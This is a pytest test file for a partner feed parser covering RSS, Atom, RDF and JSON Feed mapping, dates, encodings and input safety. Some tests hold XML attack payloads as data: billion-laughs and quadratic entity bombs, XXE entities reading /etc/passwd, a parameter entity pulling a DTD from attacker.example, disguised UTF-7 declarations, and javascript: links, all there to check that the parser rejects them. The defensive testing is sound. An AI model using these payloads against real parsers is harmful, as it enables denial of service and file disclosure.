"""feedsvc.remote.parse: partner feeds (RSS, Atom, RDF, JSON Feed) in one entry shape."""

from __future__ import annotations

import contextlib
import dataclasses
import json
import pickle
import time
import tracemalloc
from datetime import UTC, datetime

import feedparser
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from feedsvc.aggregate.clean import clean_entry
from feedsvc.errors import FeedParseError
from feedsvc.model import Author
from feedsvc.remote import xml_feed as xml_feed_module
from feedsvc.remote.parse import parse_feed
from feedsvc.remote.parsed import ParsedEntry, ParsedFeed

URL = "https://partner.example/blog/feed.xml"
XML = {"Content-Type": "application/rss+xml; charset=utf-8"}

RSS = b"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"
     xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:media="http://search.yahoo.com/mrss/">
<channel>
  <title>Partner &amp; Friends</title>
  <link>/blog/</link>
  <language>es</language>
  <item>
    <title>AT&amp;T &lt;b&gt;wins&lt;/b&gt;</title>
    <link>/blog/2017/06/at-t</link>
    <guid isPermaLink="false"> post-17 </guid>
    <description>&lt;p&gt;Short &amp;amp; sweet.&lt;/p&gt;</description>
    <content:encoded><![CDATA[<p>Full <a href="../about">text</a>
      <img src="img/a.png"></p>]]></content:encoded>
    <pubDate>Fri, 09 Jun 2017 10:00:00 +0200</pubDate>
    <author>ann@partner.example (Ann Example)</author>
    <dc:creator>Bob</dc:creator>
    <category>  Children and Youth </category>
    <category></category>
    <category>Children and Youth</category>
    <media:content url="/img/hero.jpg" medium="image"/>
  </item>
  <item>
    <title>No id, no date</title>
    <link>javascript:alert(1)</link>
    <description>Plain words only</description>
    <enclosure url="data:image/png;base64,AAAA" type="image/png" length="4"/>
  </item>
</channel>
</rss>
"""

ATOM = b"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="en-GB" xml:base="https://cdn.partner.example/news/">
  <title type="html">News &lt;i&gt;from&lt;/i&gt; the field</title>
  <link rel="alternate" href="/"/>
  <link rel="self" href="https://partner.example/atom.xml"/>
  <id>tag:partner.example,2020:feed</id>
  <updated>2020-01-05T00:00:00Z</updated>
  <author><name>Feed Author</name></author>
  <entry xml:lang="fr">
    <title type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">
      Caf\xc3\xa9 <b>noir</b> &amp; cr\xc3\xa8me</div></title>
    <link rel="alternate" type="text/html" href="posts/1"/>
    <link rel="enclosure" type="image/jpeg" href="pics/1.jpg"/>
    <id>tag:partner.example,2020:1</id>
    <published>2020-01-02T03:04:05+01:00</published>
    <updated>2020-01-03T00:00:00-05:00</updated>
    <author><name>Nadia</name><email>nadia@partner.example</email><uri>/people/nadia</uri></author>
    <category term="labor" label="Labor rights"/>
    <category term="" label="Only a label"/>
    <summary type="text">A summary, in text.</summary>
    <content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"
      ><p>Hello <img src="a.png"/></p></div></content>
  </entry>
  <entry>
    <title type="text">Generics: List&lt;T&gt; &amp; Map&lt;K, V&gt;</title>
    <link href="https://partner.example/2"/>
    <id>tag:partner.example,2020:2</id>
    <updated>2020-01-04T00:00:00Z</updated>
    <content type="text">Line one
line two

Second &lt;paragraph&gt;</content>
  </entry>
</feed>
"""

RDF = b"""<?xml version="1.0"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
         xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/">
  <channel rdf:about="http://partner.example/rdf">
    <title>RDF site</title>
    <link>http://partner.example/</link>
    <dc:language>pt-BR</dc:language>
    <items><rdf:Seq><rdf:li resource="http://partner.example/a"/></rdf:Seq></items>
  </channel>
  <item rdf:about="http://partner.example/a">
    <title>An RDF item</title>
    <link>http://partner.example/a</link>
    <description>Described.</description>
    <dc:date>2003-12-13T18:30:02Z</dc:date>
    <dc:creator>Carla</dc:creator>
    <dc:subject>Migration</dc:subject>
  </item>
</rdf:RDF>
"""


def _entry(feed: ParsedFeed, index: int = 0) -> ParsedEntry:
    return feed.entries[index]


# --- RSS 2.0 ------------------------------------------------------------------------------


def test_rss_feed_level_fields() -> None:
    feed = parse_feed(RSS, URL, XML)
    assert feed.format == "rss"
    assert feed.title == "Partner & Friends"
    assert feed.link == "https://partner.example/blog/"
    assert feed.lang == "es"
    assert feed.bozo is None
    assert len(feed.entries) == 2


def test_rss_entry_maps_every_field() -> None:
    entry = _entry(parse_feed(RSS, URL, XML))
    assert entry.entry_id == "post-17"  # isPermaLink="false": kept as given, stripped
    assert entry.link == "https://partner.example/blog/2017/06/at-t"
    assert entry.title == "AT&T wins"
    # content:encoded is the content, its relative URLs resolved; description is the summary.
    assert entry.content_html == (
        '<p>Full <a href="https://partner.example/about">text</a>\n'
        '      <img src="https://partner.example/blog/img/a.png" /></p>'
    )
    assert entry.summary == "Short & sweet."
    assert entry.published == datetime(2017, 6, 9, 8, 0, tzinfo=UTC)
    assert entry.updated is None
    assert entry.authors == (Author("Ann Example", "ann@partner.example"), Author("Bob"))
    assert entry.categories == ("Children and Youth",)
    assert entry.lang == "es"
    assert entry.image_url == "https://partner.example/img/hero.jpg"


def test_a_caller_that_resolves_gets_relative_urls_unless_an_xml_base_applies() -> None:
    entry = _entry(parse_feed(RSS, URL, XML, caller_resolves=True))
    assert (
        entry.content_html == '<p>Full <a href="../about">text</a>\n      <img src="img/a.png"></p>'
    )
    # The aggregator's cleaning resolves them against the feed URL, as feedparser would have.
    assert clean_entry(entry, URL, 280).content_html == (
        '<p>Full <a href="https://partner.example/about" rel="noopener noreferrer">text</a>\n'
        '      <img src="https://partner.example/blog/img/a.png"></p>'
    )
    assert entry.link == "https://partner.example/blog/2017/06/at-t"  # links are still resolved
    # With an xml:base, only feedparser knows each element's base: it resolves them.
    atom = _entry(parse_feed(ATOM, URL, {}, caller_resolves=True))
    assert atom.content_html == '<p>Hello <img src="https://cdn.partner.example/news/a.png" /></p>'


def test_rss_entry_without_id_date_or_safe_link() -> None:
    entry = _entry(parse_feed(RSS, URL, XML), 1)
    assert entry.entry_id is None
    assert entry.link is None  # javascript: dropped
    assert entry.published is None and entry.updated is None
    assert entry.image_url is None  # data: dropped
    # Only a description: it is the content, and there is no separate summary.
    assert entry.content_html == "Plain words only"
    assert entry.summary == ""


# --- Atom 1.0 -----------------------------------------------------------------------------


def test_atom_feed_level_fields() -> None:
    feed = parse_feed(ATOM, URL, {"Content-Type": "application/atom+xml"})
    assert feed.format == "atom"
    assert feed.title == "News from the field"
    assert feed.link == "https://cdn.partner.example/"  # xml:base applies
    assert feed.lang == "en-GB"
    assert feed.bozo is None


def test_atom_entry_maps_every_field() -> None:
    entry = _entry(parse_feed(ATOM, URL, {"Content-Type": "application/atom+xml"}))
    assert entry.entry_id == "tag:partner.example,2020:1"
    assert entry.link == "https://cdn.partner.example/news/posts/1"
    assert entry.title == "Café noir & crème"
    assert entry.content_html == '<p>Hello <img src="https://cdn.partner.example/news/a.png" /></p>'
    assert entry.summary == "A summary, in text."
    assert entry.published == datetime(2020, 1, 2, 2, 4, 5, tzinfo=UTC)
    assert entry.updated == datetime(2020, 1, 3, 5, 0, tzinfo=UTC)
    assert entry.authors == (
        Author("Nadia", "nadia@partner.example", "https://cdn.partner.example/people/nadia"),
    )
    assert entry.categories == ("labor", "Only a label")
    assert entry.lang == "fr"
    assert entry.image_url == "https://cdn.partner.example/news/pics/1.jpg"


def test_atom_text_title_with_markup_stays_literal_and_text_content_is_escaped() -> None:
    entry = _entry(parse_feed(ATOM, URL, {}), 1)
    assert entry.title == "Generics: List<T> & Map<K, V>"
    assert entry.content_html == "<p>Line one<br>line two</p><p>Second &lt;paragraph&gt;</p>"
    assert entry.summary == ""
    # RFC 4287 §4.2.1: no author of its own, so the feed's.
    assert entry.authors == (Author("Feed Author"),)
    assert entry.published is None
    assert entry.lang == "en-GB"


# --- RSS 1.0 (RDF) ------------------------------------------------------------------------


def test_rdf() -> None:
    feed = parse_feed(RDF, "http://partner.example/index.rdf", {"Content-Type": "text/xml"})
    assert feed.format == "rdf"
    assert (feed.title, feed.link, feed.lang, feed.bozo) == (
        "RDF site",
        "http://partner.example/",
        "pt-BR",
        None,
    )
    entry = _entry(feed)
    assert entry.link == "http://partner.example/a"
    assert entry.title == "An RDF item"
    assert entry.content_html == "Described."
    assert entry.updated == datetime(2003, 12, 13, 18, 30, 2, tzinfo=UTC)
    assert entry.authors == (Author("Carla"),)
    assert entry.categories == ("Migration",)


# --- JSON Feed ----------------------------------------------------------------------------

JSON_FEED_10 = {
    "version": "https://jsonfeed.org/version/1",
    "title": "JSON partner",
    "home_page_url": "https://partner.example/",
    "author": {"name": "Feed Person", "url": "mailto:feed@partner.example"},
    "items": [
        {
            "id": 2,
            "url": "/posts/2",
            "title": "Second",
            "content_text": "Plain <text> & more",
            "date_published": "2021-03-04T05:06:07+02:00",
            "tags": ["News", " News ", "", 7],
            "image": "javascript:alert(1)",
            "banner_image": "img/banner.png",
        },
        {"title": "No id", "content_html": "<p>Hi</p>", "external_url": "https://else.example/x"},
    ],
}

JSON_FEED_11 = {
    "version": "https://jsonfeed.org/version/1.1",
    "title": "JSON 1.1 partner",
    "home_page_url": "javascript:void(0)",
    "language": "es",
    "authors": [{"name": "Feed Team"}],
    "items": [
        {
            "id": " abc ",
            "url": "https://partner.example/abc",
            "title": "  Café\n con leche  ",
            "content_html": '<p>Full <a href="/x">body</a></p>',
            "summary": "The summary.",
            "date_published": "2022-01-01T00:00:00Z",
            "date_modified": "2022-01-02T10:00:00-03:00",
            "authors": [
                {"name": "Writer One", "url": "https://partner.example/w1"},
                {"url": "mailto:two@partner.example"},
                {"avatar": "https://partner.example/only-avatar.png"},
            ],
            "language": "en",
            "image": "https://partner.example/i.png",
        },
        {"id": "s", "summary": "Only a summary", "date_published": "not a date"},
    ],
}


def test_json_feed_10() -> None:
    feed = parse_feed(json.dumps(JSON_FEED_10).encode(), "https://partner.example/feed.json", {})
    assert (feed.format, feed.title, feed.link, feed.lang, feed.bozo) == (
        "json",
        "JSON partner",
        "https://partner.example/",
        None,
        None,
    )
    first, second = feed.entries
    assert first.entry_id == "2"  # numbers are coerced to strings (JSON Feed 1.1 §items)
    assert first.link == "https://partner.example/posts/2"
    assert first.content_html == "<p>Plain &lt;text&gt; &amp; more</p>"
    assert first.summary == ""
    assert first.published == datetime(2021, 3, 4, 3, 6, 7, tzinfo=UTC)
    assert first.updated is None
    assert first.categories == ("News",)
    assert first.image_url == "https://partner.example/img/banner.png"
    # Items without authors take the feed's; a mailto: URL is an email.
    assert first.authors == (Author("Feed Person", "feed@partner.example"),)
    assert second.entry_id is None
    assert second.link == "https://else.example/x"
    assert second.content_html == "<p>Hi</p>"


def test_json_feed_11() -> None:
    feed = parse_feed(
        json.dumps(JSON_FEED_11).encode(),
        "https://partner.example/feed.json",
        {"Content-Type": "application/feed+json"},
    )
    assert (feed.title, feed.link, feed.lang) == ("JSON 1.1 partner", None, "es")
    entry, summary_only = feed.entries
    assert entry.entry_id == "abc"
    assert entry.title == "Café con leche"
    assert entry.content_html == '<p>Full <a href="/x">body</a></p>'
    assert entry.summary == "The summary."
    assert entry.published == datetime(2022, 1, 1, tzinfo=UTC)
    assert entry.updated == datetime(2022, 1, 2, 13, 0, tzinfo=UTC)
    assert entry.authors == (
        Author("Writer One", None, "https://partner.example/w1"),
        Author("two@partner.example", "two@partner.example"),
    )
    assert entry.lang == "en"
    assert entry.image_url == "https://partner.example/i.png"
    assert summary_only.content_html == "<p>Only a summary</p>"
    assert summary_only.summary == ""
    assert summary_only.published is None
    assert summary_only.authors == (Author("Feed Team"),)
    assert summary_only.lang == "es"


def test_json_feed_with_bom_and_leading_space_is_detected() -> None:
    body = b"\xef\xbb\xbf \n" + json.dumps(JSON_FEED_11).encode()
    assert parse_feed(body, URL, {"Content-Type": "text/plain"}).format == "json"


def test_json_text_is_cleaned_of_characters_xml_forbids() -> None:
    doc = {
        "version": "https://jsonfeed.org/version/1.1",
        "title": "T\u0000i\ud800t\x1fle\ufffe",
        "items": [{"id": "a\x00", "title": "x\x0by", "content_html": "<p>\x07ok\udfff</p>"}],
    }
    feed = parse_feed(json.dumps(doc).encode(), URL, {})
    assert feed.title == "Title"
    entry = feed.entries[0]
    assert (entry.entry_id, entry.title, entry.content_html) == ("a", "xy", "<p>ok</p>")


@pytest.mark.parametrize(
    ("body", "content_type", "message"),
    [
        (b"{not json", "", "invalid JSON"),
        (b'{"title": "no version"}', "", "not a JSON Feed"),
        (b'{"version": "https://example.org/v1", "items": []}', "", "not a JSON Feed"),
        (b'[{"id": 1}]', "application/json", "not a JSON Feed"),
        (b'"just a string"', "application/feed+json", "not a JSON Feed"),
        (b"[" * 100_000, "application/json", "invalid JSON"),
        (b'{"version": "https://jsonfeed.org/version/1", "n": ' + b"9" * 5000 + b"}", "", "JSON"),
    ],
)
def test_json_that_is_not_a_json_feed_is_refused(
    body: bytes, content_type: str, message: str
) -> None:
    with pytest.raises(FeedParseError, match=message) as raised:
        parse_feed(body, URL, {"Content-Type": content_type})
    assert raised.value.url == URL


def test_json_feed_with_bad_items_is_flagged_not_refused() -> None:
    body = json.dumps({"version": "https://jsonfeed.org/version/1.1", "items": [1, {"id": "x"}]})
    feed = parse_feed(body.encode(), URL, {})
    assert [e.entry_id for e in feed.entries] == ["x"]
    assert feed.bozo


# --- links, titles, dates -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("href", "expected"),
    [
        ("post.html", "https://partner.example/blog/post.html"),
        ("/post", "https://partner.example/post"),
        ("//other.example/p", "https://other.example/p"),
        ("http://other.example/p", "http://other.example/p"),
        ("javascript:alert(1)", None),
        ("JavaScript:alert(1)", None),
        ("java&#9;script:alert(1)", None),  # urlsplit drops the tab, as browsers do
        ("data:text/html,<script>x</script>", None),
        ("mailto:a@b.example", None),
        ("ftp://files.example/x", None),
        ("http://[::1", None),
    ],
)
def test_entry_links_are_absolute_http_or_none(href: str, expected: str | None) -> None:
    body = f"""<feed xmlns="http://www.w3.org/2005/Atom"><title>t</title>
      <entry><title>e</title><link rel="alternate" href="{href.replace("<", "&lt;")}"/></entry>
    </feed>""".encode()
    assert _entry(parse_feed(body, URL, {})).link == expected


def test_an_unsafe_first_alternate_does_not_hide_a_safe_one() -> None:
    body = b"""<feed xmlns="http://www.w3.org/2005/Atom"><title>t</title><entry><title>e</title>
      <link rel="alternate" href="javascript:x()"/>
      <link rel="alternate" type="text/html" hreflang="es" href="/es/post"/>
    </entry></feed>"""
    assert _entry(parse_feed(body, URL, {})).link == "https://partner.example/es/post"


@pytest.mark.parametrize(
    ("title_xml", "expected"),
    [
        (
            '<title type="html">&lt;b&gt;Bold&lt;/b&gt; &amp;amp; &lt;i&gt;it&lt;/i&gt;</title>',
            "Bold & it",
        ),
        (
            '<title type="html">Tom &amp;amp; Jerry &amp;#8212; &amp;eacute;</title>',
            "Tom & Jerry — é",
        ),
        ('<title type="html">a&lt;script&gt;alert(1)&lt;/script&gt;b</title>', "ab"),
        ('<title type="text">1 &lt; 2 &amp;&amp; &lt;b&gt;</title>', "1 < 2 && <b>"),
        ("<title>  spread\n over   lines </title>", "spread over lines"),
    ],
)
def test_titles_are_plain_text(title_xml: str, expected: str) -> None:
    body = f"""<feed xmlns="http://www.w3.org/2005/Atom"><title>t</title>
      <entry>{title_xml}</entry></feed>""".encode()
    assert _entry(parse_feed(body, URL, {})).title == expected


def test_rss_title_with_escaped_markup_is_text() -> None:
    body = b"""<rss version="2.0"><channel><title>t</title>
      <item><title>&lt;em&gt;Hola&lt;/em&gt; &amp;amp; adi&amp;oacute;s</title></item>
    </channel></rss>"""
    assert _entry(parse_feed(body, URL, XML)).title == "Hola & adiós"


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("2017-06-09T10:00:00+02:00", datetime(2017, 6, 9, 8, tzinfo=UTC)),
        ("2017-06-09T10:00:00Z", datetime(2017, 6, 9, 10, tzinfo=UTC)),
        ("2017-06-09T10:00:00", datetime(2017, 6, 9, 10, tzinfo=UTC)),  # naive: taken as UTC
        ("2017-06-09", datetime(2017, 6, 9, tzinfo=UTC)),
        ("June 9, 2017 10:00 PDT", datetime(2017, 6, 9, 17, tzinfo=UTC)),
        ("Fri, 09 Jun 2017 10:00:00 EST", datetime(2017, 6, 9, 15, tzinfo=UTC)),
        ("Fri, 09 Jun 2017 10:00:00 CEST", None),  # an unknown zone is not guessed
        ("Tuesday", None),  # no date at all: not completed with an arbitrary one
        ("10:00", None),
        ("yesterday", None),
        ("", None),
        ("9" * 200, None),
        ("0000-01-01T00:00:00+14:00", None),
    ],
)
def test_json_feed_dates(raw: str, expected: datetime | None) -> None:
    doc = {"version": "https://jsonfeed.org/version/1.1", "items": [{"date_published": raw}]}
    entry = _entry(parse_feed(json.dumps(doc).encode(), URL, {}))
    assert entry.published == expected
    assert entry.published is None or entry.published.tzinfo is UTC


def test_missing_and_unreadable_xml_dates_are_none_and_unparsed_ones_are_rescued() -> None:
    body = b"""<rss version="2.0"><channel><title>t</title>
      <item><title>none</title></item>
      <item><title>junk</title><pubDate>sometime soon</pubDate></item>
      <item><title>odd</title><pubDate>2017-06-09 10:00:00 +0200</pubDate></item>
    </channel></rss>"""
    feed = parse_feed(body, URL, XML)
    assert [(e.published, e.updated) for e in feed.entries[:2]] == [(None, None), (None, None)]
    assert feed.entries[2].published == datetime(2017, 6, 9, 8, tzinfo=UTC)


def test_rss_guid_permalink_is_the_id_and_the_link() -> None:
    body = b"""<rss version="2.0"><channel><title>t</title>
      <item><title>a</title><guid>https://partner.example/p/1</guid></item>
    </channel></rss>"""
    entry = _entry(parse_feed(body, URL, XML))
    assert entry.entry_id == "https://partner.example/p/1"
    assert entry.link == "https://partner.example/p/1"


def test_entries_keep_document_order_and_an_empty_feed_is_a_feed() -> None:
    items = "".join(f"<item><title>{i}</title></item>" for i in range(5))
    body = f'<rss version="2.0"><channel><title>t</title>{items}</channel></rss>'.encode()
    assert [e.title for e in parse_feed(body, URL, XML).entries] == ["0", "1", "2", "3", "4"]
    empty = parse_feed(b'<rss version="2.0"><channel><title>t</title></channel></rss>', URL, XML)
    assert empty.entries == () and empty.format == "rss"


def test_results_are_frozen() -> None:
    feed = parse_feed(RSS, URL, XML)
    with pytest.raises(dataclasses.FrozenInstanceError):
        feed.title = "x"  # type: ignore[misc]
    with pytest.raises(dataclasses.FrozenInstanceError):
        feed.entries[0].title = "x"  # type: ignore[misc]


# --- encodings and headers ----------------------------------------------------------------


def test_missing_content_type_reads_utf8_per_xml_rules_and_is_not_bozo() -> None:
    # feedparser alone would take iso-8859-1 here and garble the title (see _feedparser_headers).
    body = '<rss version="2.0"><channel><title>Niñez y juventud</title></channel></rss>'
    feed = parse_feed(body.encode(), URL, {})
    assert (feed.title, feed.bozo) == ("Niñez y juventud", None)


def test_text_xml_without_charset_is_read_like_application_xml() -> None:
    body = '<rss version="2.0"><channel><title>Niñez</title></channel></rss>'.encode()
    feed = parse_feed(body, URL, {"Content-Type": "text/xml"})
    assert (feed.title, feed.bozo) == ("Niñez", None)


def test_http_charset_is_honoured() -> None:
    body = '<rss version="2.0"><channel><title>Niñez</title></channel></rss>'.encode("latin-1")
    feed = parse_feed(body, URL, {"content-type": "text/xml; charset=ISO-8859-1"})
    assert feed.title == "Niñez"


def test_utf16_feed_is_read() -> None:
    body = '<?xml version="1.0" encoding="utf-16"?><rss version="2.0"><channel><title>Ñ</title>'
    body += "</channel></rss>"
    assert parse_feed(body.encode("utf-16"), URL, XML).title == "Ñ"


# --- malformed and non-feeds --------------------------------------------------------------


def test_malformed_xml_is_recovered_and_flagged() -> None:
    body = b"""<rss version="2.0"><channel><title>Broken</title>
      <item><title>Fish & chips</title><link>https://partner.example/fish</link></item>
      <item><title>Second</title></item>
    """
    feed = parse_feed(body, URL, XML)
    assert feed.bozo is not None and "malformed XML" in feed.bozo
    assert [e.title for e in feed.entries] == ["Fish & chips", "Second"]
    assert feed.entries[0].link == "https://partner.example/fish"


@pytest.mark.parametrize(
    ("body", "content_type"),
    [
        (
            b"<!DOCTYPE html><html><head><title>Home</title></head><body><p>Hi</p></body></html>",
            "text/html",
        ),
        (
            b'<html><head><link rel="alternate" type="application/rss+xml" href="/feed"></head>'
            b"<body><h1>Not here</h1></body></html>",
            "text/html; charset=utf-8",
        ),
        (b"", ""),
        (b" \n\t ", "application/rss+xml"),
        (b"plain text, not a feed", "text/plain"),
        (b"\x00\xff\xfe garbage \x89PNG", "application/octet-stream"),
        (b"<?xml version='1.0'?><note><to>x</to></note>", "application/xml"),
    ],
)
def test_documents_without_a_feed_are_refused(body: bytes, content_type: str) -> None:
    with pytest.raises(FeedParseError) as raised:
        parse_feed(body, URL, {"Content-Type": content_type})
    assert raised.value.url == URL


def test_feedparser_never_opens_files_or_urls(monkeypatch: pytest.MonkeyPatch) -> None:
    # feedparser.parse(bytes) would open(b"/etc/passwd"); a str would be fetched.
    def no_network(*args: object, **kwargs: object) -> None:
        raise AssertionError("feedparser tried to fetch")

    monkeypatch.setattr(feedparser.http, "get", no_network)
    for body in (b"/etc/passwd", b"/etc/hostname", b"https://partner.example/feed", URL.encode()):
        with pytest.raises(FeedParseError):
            parse_feed(body, URL, {})


def test_unexpected_errors_are_wrapped_with_their_cause(monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(*args: object, **kwargs: object) -> None:
        raise RuntimeError("boom")

    monkeypatch.setattr(xml_feed_module.feedparser, "parse", broken)
    with pytest.raises(FeedParseError, match="RuntimeError") as raised:
        parse_feed(RSS, URL, XML)
    assert isinstance(raised.value.__cause__, RuntimeError)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(body=st.binary(max_size=400), content_type=st.sampled_from(["", "text/xml", "text/html"]))
def test_any_bytes_give_a_feed_or_feed_parse_error(body: bytes, content_type: str) -> None:
    with contextlib.suppress(FeedParseError):
        parse_feed(body, URL, {"Content-Type": content_type})


@settings(max_examples=100, deadline=None)
@given(title=st.text(max_size=60), item=st.dictionaries(st.text(max_size=15), st.text(max_size=30)))
def test_any_json_feed_values_give_clean_strings(title: str, item: dict[str, str]) -> None:
    doc = {"version": "https://jsonfeed.org/version/1.1", "title": title, "items": [item]}
    feed = parse_feed(json.dumps(doc).encode(), URL, {})
    entry = feed.entries[0]
    for text in (feed.title, entry.title, entry.summary, entry.content_html):
        assert "\x00" not in text
        text.encode("utf-8")  # no lone surrogates


# --- the entity guard (docs/architecture.md "Partner documents") ----------------------------


def _billion_laughs() -> bytes:
    decls = ['<!ENTITY lol "lol">']
    decls += [
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">'
        for i in range(1, 10)
    ]
    # One line, as the attack is usually written.
    return (
        f'<?xml version="1.0"?><!DOCTYPE rss [{"".join(decls)}]>'
        '<rss version="2.0"><channel><title>&lol9;</title></channel></rss>'
    ).encode()


def _quadratic_blowup() -> bytes:
    # One 100 KB entity referenced 10,000 times: 1 GB once expanded.
    return (
        b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "'
        + b"A" * 100_000
        + b'">]><rss version="2.0"><channel><title>'
        + b"&a;" * 10_000
        + b"</title></channel></rss>"
    )


EXTERNAL_ENTITY = (
    b'<?xml version="1.0"?>\n<!DOCTYPE rss [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n'
    b'<rss version="2.0"><channel><title>&xxe;</title></channel></rss>'
)
PARAMETER_ENTITY = (
    b'<!DOCTYPE rss [<!ENTITY % ext SYSTEM "https://attacker.example/evil.dtd"> %ext;]>'
    b'<rss version="2.0"><channel><title>t</title></channel></rss>'
)


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(_billion_laughs(), id="billion-laughs"),
        pytest.param(_quadratic_blowup(), id="quadratic-blowup"),
        pytest.param(EXTERNAL_ENTITY, id="external-entity"),
        pytest.param(PARAMETER_ENTITY, id="parameter-entity"),
    ],
)
def test_entity_attacks_are_refused_fast_and_small(body: bytes) -> None:
    tracemalloc.start()
    started = time.thread_time()  # CPU time: the same on a busy machine
    try:
        with pytest.raises(FeedParseError, match="declares XML entities"):
            parse_feed(body, URL, XML)
        elapsed = time.thread_time() - started
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert elapsed < 0.5
    # A few copies of the body at most; expanding the quadratic one would take 1 GB.
    assert peak < 4 * len(body) + 1_000_000


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-be"])
def test_entity_declarations_in_wide_encodings_are_refused(codec: str) -> None:
    text = EXTERNAL_ENTITY.decode().replace(
        'version="1.0"?>', f'version="1.0" encoding="{codec}"?>'
    )
    with pytest.raises(FeedParseError, match="declares XML entities"):
        parse_feed(text.encode(codec), URL, XML)


@pytest.mark.parametrize(
    ("body", "content_type"),
    [
        # The declaration spelled in UTF-7, which feedparser decodes when the document says so.
        (
            b'<?xml version="1.0" encoding="utf-7"?><!DOCTYPE rss [+ADw-!ENTITY x SYSTEM '
            b'"file:///etc/passwd"+AD4-]><rss version="2.0"><channel><title>&x;</title>'
            b"</channel></rss>",
            "application/xml",
        ),
        # The same, with the encoding named by the HTTP header instead.
        (
            b'<!DOCTYPE rss [+ADw-!ENTITY x SYSTEM "file:///etc/passwd"+AD4-]>'
            b'<rss version="2.0"><channel><title>&x;</title></channel></rss>',
            "application/xml; charset=utf-7",
        ),
        # "<!--" inside a quoted SYSTEM literal must not hide the internal subset.
        (
            b'<!DOCTYPE rss SYSTEM "<!--" [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
            b'<rss version="2.0"><channel><title>&x;</title><!-- --></channel></rss>',
            "application/xml",
        ),
        # Lower case is not XML, but it is refused rather than reasoned about.
        (b'<!DOCTYPE rss [<!entity x "y">]><rss version="2.0"/>', "application/xml"),
        # An entity declared after the root element has started is still refused if the
        # prolog cannot be read (garbage before it).
        (b'junk <!DOCTYPE rss [<!ENTITY x "y">]><rss version="2.0"/>', "application/xml"),
    ],
)
def test_disguised_entity_declarations_are_refused(body: bytes, content_type: str) -> None:
    with pytest.raises(FeedParseError, match="declares XML entities"):
        parse_feed(body, URL, {"Content-Type": content_type})


def test_doctype_without_internal_subset_is_accepted() -> None:
    body = b"""<?xml version="1.0" encoding="ISO-8859-1"?>
<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"
  "http://my.netscape.com/publish/formats/rss-0.91.dtd">
<rss version="0.91"><channel><title>Old school</title><link>http://partner.example/</link>
<item><title>One</title><link>http://partner.example/1</link></item></channel></rss>"""
    feed = parse_feed(body, URL, {"Content-Type": "text/xml"})
    assert (feed.title, feed.format, len(feed.entries)) == ("Old school", "rss", 1)


def test_internal_subset_without_entities_is_accepted() -> None:
    body = b"""<!DOCTYPE rss [ <!-- a comment --> <!ELEMENT rss ANY>
  <!ATTLIST rss version CDATA "2.0 > 1.0"> ]>
<rss version="2.0"><channel><title>ok</title></channel></rss>"""
    assert parse_feed(body, URL, XML).title == "ok"


def test_entity_declared_in_a_prolog_comment_is_refused() -> None:
    # feedparser lifts "<!ENTITY" lines out of the prolog with a regular expression, comments
    # included, re-declares them in a fresh DOCTYPE, and its fallback parser then expands them
    # without limit: this 40 KB document used to give a 10 MB title.
    body = (
        b'<?xml version="1.0"?>\n<!DOCTYPE rss>\n<!--\n<!ENTITY a "'
        + b"A" * 10_000
        + b'">\n-->\n<rss version="2.0"><channel><title>'
        + b"&a;" * 1000
        + b"</title><item><title>x & y</title></item></channel></rss>"
    )
    with pytest.raises(FeedParseError, match="declares XML entities"):
        parse_feed(body, URL, XML)


def test_entity_text_quoted_in_content_is_accepted() -> None:
    body = b"""<?xml version="1.0"?><!-- a comment --><rss version="2.0"><channel><title>t</title>
  <item><title>How XXE works</title>
  <description><![CDATA[<pre><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]></pre>]]></description>
  </item></channel></rss>"""
    entry = _entry(parse_feed(body, URL, XML))
    assert "ENTITY xxe SYSTEM" in entry.content_html


@pytest.mark.parametrize(
    ("author_xml", "expected"),
    [
        ("<author>ann@x.org (Ann)</author>", Author("Ann", "ann@x.org")),
        ("<author>ann@x.info (Ann Example)</author>", Author("Ann Example", "ann@x.info")),
        ("<author>Ann Example</author>", Author("Ann Example")),
        ("<author>ann@x.info (ann)</author>", Author("ann", "ann@x.info")),
        # Top-level domains longer than four letters, which feedparser cuts short.
        ("<author>ann@partner.example (Ann Ex)</author>", Author("Ann Ex", "ann@partner.example")),
        ("<author>ann@x.charity</author>", Author("ann@x.charity", "ann@x.charity")),
        ("<author>Ann (ann@our.foundation)</author>", Author("Ann", "ann@our.foundation")),
        (
            "<dc:creator>Ann Ex &lt;ann@news.community&gt;</dc:creator>",
            Author("Ann Ex", "ann@news.community"),
        ),
    ],
)
def test_rss_author_strings(author_xml: str, expected: Author) -> None:
    body = f"""<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel>
      <title>t</title><item><title>i</title>{author_xml}</item></channel></rss>""".encode()
    assert _entry(parse_feed(body, URL, XML)).authors == (expected,)


# --- inputs on which feedparser's own regular expressions are super-linear -----------------


def _timed_parse(body: bytes) -> tuple[float, ParsedFeed | FeedParseError]:
    """The parse's outcome and the CPU time it took (thread_time: the same on a busy
    machine, unlike the wall clock; these bounds are for super-linear blow-ups)."""
    started = time.thread_time()
    try:
        outcome: ParsedFeed | FeedParseError = parse_feed(body, URL, XML)
    except FeedParseError as e:
        outcome = e
    return time.thread_time() - started, outcome


@pytest.mark.parametrize("codec", ["utf-8", "utf-16", "utf-32"])
